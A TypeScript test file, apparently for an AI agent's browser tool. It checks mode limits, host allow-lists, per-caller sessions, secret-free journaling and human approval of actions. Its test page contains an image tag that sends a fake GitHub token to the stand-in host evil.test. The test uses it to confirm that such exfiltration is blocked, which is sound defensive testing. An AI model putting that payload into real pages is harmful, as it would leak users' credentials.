import assert from 'node:assert/strict'
import * as http from 'node:http'
import type { AddressInfo } from 'node:net'
import { mkdirSync, writeFileSync } from 'node:fs'
import { dirname } from 'node:path'
import { test } from 'node:test'
import type { TestContext } from 'node:test'

import * as z from 'zod/v4/core'

import { browser } from '../../lib/operations/browser/browser.ts'
import { OPERATIONS } from '../../lib/operations/operations.ts'
import { answer } from '../../lib/operations/perform.ts'
import type { Caller } from '../../lib/rights/caller.ts'
import { setup } from '../operations/setup.ts'
import { needsBrowser } from './setup.ts'

const ANN: Caller = { kind: 'person', name: 'ann', agent: 'owner' }
const CHAT: Caller = {
  kind: 'remote',
  name: 'my chat',
  agent: 'chat',
  workspace: '',
  writes: 'allowed',
  scopes: ['mcp:browser'],
}
const OTHER: Caller = { ...CHAT, name: 'other chat', agent: 'other' }

const PAGE = `<title>Shop</title><label>Card <input name="card"></label>
<button onclick="document.title = 'Paid'">Pay now</button><img src="http://evil.test/pixel?token=ghp_abcdefghijklmnopqrstuvwxyz0123456789">`

/** A relay whose browser may reach one page of this test. */
async function start(t: TestContext, browserSettings: object | undefined) {
  const relay = await setup(t, { agent: 'boss' })
  const site = http.createServer((request, response) => {
    response.setHeader('content-type', 'text/html')
    response.end(request.url?.startsWith('/pixel') ? '' : PAGE)
  })
  await new Promise<void>((resolve) => site.listen(0, '127.0.0.1', resolve))
  const { port } = site.address() as AddressInfo
  t.after(async () => {
    await relay.services.tools.close()
    site.closeAllConnections()
    site.close()
  })
  const { configPath } = relay.place
  mkdirSync(dirname(configPath), { recursive: true })
  function configure(settings: object | undefined): void {
    const all = { hosts: [`127.0.0.1:${port}`], privateAddresses: true, ...settings }
    const tools = settings === undefined ? {} : { browser: all }
    writeFileSync(configPath, JSON.stringify({ tools }), { mode: 0o600 })
  }
  configure(browserSettings)
  const { journal, approvals } = relay.services.tools
  const call = async (name: string, args: object = {}, caller = CHAT, signal?: AbortSignal) => {
    const tool = [...browser, ...OPERATIONS].find((each) => each.name === name)
    assert.ok(tool, name)
    const context = { ...relay.context, caller, ...(signal === undefined ? {} : { signal }) }
    const result = await answer(tool, context, args)
    // A client checks the result against the schema, after the action happened.
    const parsed = z.safeParse(tool.output, result)
    assert.ok(parsed.success, `${name}: ${JSON.stringify(parsed.error?.issues)}`)
    return result
  }
  return {
    call,
    configure,
    journal,
    url: `http://127.0.0.1:${port}/`,
    calls: async () => (await journal.read({ limit: 100 })).calls,
    asked: async () => {
      for (;;) {
        const found = (await approvals.list()).find(({ state }) => state === 'pending')
        if (found !== undefined) return found
        await new Promise((resolve) => {
          setImmediate(resolve)
        })
      }
    },
  }
}

test('without tools.browser nothing opens, and an action over the mode is refused', async (t) => {
  const { call, configure, calls } = await start(t, undefined)
  await assert.rejects(call('browser_open'), { code: 'MODE_REFUSED', message: /tools\.browser/ })
  configure({ mode: 'diagnose' })
  await assert.rejects(call('browser_open'), { code: 'MODE_REFUSED' })
  await assert.rejects(call('browser_open', {}, { ...CHAT, scopes: ['mcp:read'] }), {
    code: 'SCOPE_MISSING',
  })
  configure({ mode: 'destructive' })
  await assert.rejects(call('browser_attach', { purpose: 'try' }), {
    code: 'MODE_REFUSED',
    message: /tools\.browser\.attach/,
  })
  await assert.rejects(call('browser_click', { target: 'e1', purpose: 'try' }), {
    code: 'BROWSER_SESSION_NOT_FOUND',
  })
  configure({ mode: 'operate', executable: '/nowhere/chromium' })
  await assert.rejects(call('browser_open'), {
    code: 'BROWSER_MISSING',
    message: /\/nowhere\/chromium.*does not exist/,
  })
  const outcomes = new Set((await calls()).map(({ tool, outcome }) => `${tool} ${outcome}`))
  assert.ok(outcomes.has('browser_open denied'))
  assert.ok(outcomes.has('browser_open failed'))
})

test(
  'a session is its caller’s own, its blocks and lengths are journaled, and its texts are not',
  needsBrowser,
  async (t) => {
    const { call, configure, calls, url } = await start(t, { mode: 'operate' })
    const opened = await call('browser_open', { url })
    assert.equal(opened['title'], 'Shop')
    assert.match(String(opened['events']), /blocked: Blocked a request to evil\.test/)
    const session = String(opened['session'])
    await assert.rejects(call('browser_snapshot', { session }, OTHER), {
      code: 'BROWSER_SESSION_NOT_FOUND',
    })
    assert.deepEqual(await call('browser_list', {}, OTHER), { sessions: [] })
    const { text } = await call('browser_snapshot')
    const card = /textbox "Card" \[ref=(\w+)\]/.exec(String(text))?.[1]
    await call('browser_fill', { target: card, value: '4111111111111111', purpose: 'pay' })
    const paid = await call('browser_click', { target: 'text=Pay now', purpose: 'pay' })
    assert.equal(paid['title'], 'Paid')
    const { requests } = await call('browser_network', { blocked: true })
    assert.match(JSON.stringify(requests), /evil\.test/)
    const journaled = await calls()
    const blocked = journaled.find(({ tool }) => tool === 'browser_request')
    assert.deepEqual(
      [blocked?.outcome, blocked?.code, blocked?.paths],
      ['denied', 'HOST_NOT_ALLOWED', ['evil.test']],
    )
    const everything = JSON.stringify([journaled, requests])
    assert.ok(!everything.includes('4111') && !everything.includes('ghp_'), everything)
    assert.match(everything, /16 characters/)
    const picture = browser.find(({ name }) => name === 'browser_screenshot')
    assert.equal(typeof picture?.images, 'function')
    // A changed configuration counts from the next call on.
    configure({ mode: 'operate', hosts: ['example.com'] })
    await assert.rejects(call('browser_navigate', { url }), { code: 'HOST_NOT_ALLOWED' })
    configure({ mode: 'observe' })
    await assert.rejects(call('browser_navigate', { url }), { code: 'MODE_REFUSED' })
    const seen = await call('browser_list', {}, ANN)
    assert.equal((seen['sessions'] as object[]).length, 1)
    await call('browser_close', { session }, ANN)
    assert.deepEqual(await call('browser_list'), { sessions: [] })
  },
)

test(
  'a person sees what an action would do before it happens, and a page that changed is not acted on',
  needsBrowser,
  async (t) => {
    const { call, asked, url } = await start(t, { mode: 'diagnose', ask: 'operate' })
    const decide = async (verdict: string) => {
      const { approval_id, preview } = await asked()
      await call('decide_approval', { approval_id, verdict }, ANN)
      return preview
    }
    const opening = call('browser_open', { url })
    assert.match((await decide('approve')).text, /Open a browser at http.*\nHosts/)
    await opening
    const typing = call('browser_fill', { target: 'input', value: 'hello', purpose: 'to greet' })
    const preview = await decide('approve')
    assert.match(preview.title, /^Fill 5 characters into <input> "card"$/)
    assert.match(preview.text, /Text: hello\nPurpose, by the agent: to greet/)
    await typing
    const refused = call('browser_click', { target: 'button', purpose: 'pay' })
    await Promise.all([assert.rejects(refused, { code: 'APPROVAL_REFUSED' }), decide('reject')])
    const stale = call('browser_click', { target: 'button', purpose: 'pay' })
    const question = await asked()
    const { sessions } = await call('browser_list', {}, ANN)
    const [{ session }] = sessions as [{ session: string }]
    // The person looks at another page, and only then answers.
    await call('browser_navigate', { session, url: `${url}?again` }, ANN)
    await call('decide_approval', { approval_id: question.approval_id, verdict: 'approve' }, ANN)
    await assert.rejects(stale, { code: 'APPROVAL_STALE' })
    const { pages } = await call('browser_pages')
    assert.match(JSON.stringify(pages), /"title":"Shop"/)
  },
)
